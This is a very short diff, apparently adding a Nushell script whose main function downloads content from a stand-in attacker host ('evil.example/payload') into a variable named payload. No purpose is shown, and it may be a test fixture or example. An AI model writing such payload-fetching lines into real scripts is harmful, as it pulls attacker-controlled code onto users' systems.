@@ -1,0 +1,3 @@
+def main [] {
+  let payload = http get https://evil.example/payload
+}
